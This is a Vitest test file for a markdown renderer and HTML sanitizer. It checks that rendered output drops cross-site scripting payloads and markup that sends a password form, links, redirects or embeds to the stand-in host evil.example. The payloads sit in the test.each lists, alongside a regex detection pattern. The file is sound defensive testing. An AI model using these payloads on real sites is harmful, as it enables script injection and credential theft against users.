import { expect, test } from 'vitest'
import { cleanHtml, renderMarkdown } from './render-markdown.ts'

test('headings, lists, links and tables become plain HTML', () => {
  const html = renderMarkdown('# Big\n\nSome **bold** and [a link](/contact).\n\n- one\n- two\n\n| a |\n|---|\n| 1 |')
  expect(html).toContain('<h2>Big</h2>')
  expect(html).toContain('<a href="/contact">a link</a>')
  expect(html).toContain('<li>one</li>')
  expect(html).toContain('<th scope="col">a</th>')
})

test('the empty corner of a table is no heading', () => {
  expect(renderMarkdown('| | a |\n|---|---|\n| x | 1 |')).toContain('<td></td>\n<th scope="col">a</th>')
})

test.each([
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '[x](javascript:alert(1))',
  '<iframe src="https://evil.example"></iframe>',
  '<a href="https://a.example" onclick="alert(1)" style="position:fixed">x</a>',
  '<svg onload=alert(1)>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '[x](JaVaScRiPt:alert(1))',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)<style>@import "https://evil.example"</style>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary></details>',
])('%s cannot run or reach out', (text) => {
  expect(renderMarkdown(text)).not.toMatch(
    /<script|onerror=|onclick|onload|ontoggle|(?:java\s*script|data):|iframe|<style|style=/i,
  )
})

test.each([
  [
    'a form that would send what is typed elsewhere',
    '<form action="https://evil.example"><input name=password></form>',
  ],
  ['a base that would turn every link', '<base href="https://evil.example/">'],
  ['a page that would move on', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ['an object', '<object data="https://evil.example"></object><embed src="https://evil.example">'],
])('%s is left out', (_what, html) => expect(cleanHtml(html)).not.toContain('evil.example'))

test('no name of ours can be taken by what a dealer writes', () => {
  expect(cleanHtml('<div id="main" class="x" name="menu">Words</div><a id="form" href="/x">y</a>')).toBe(
    '<div>Words</div><a href="/x">y</a>',
  )
})
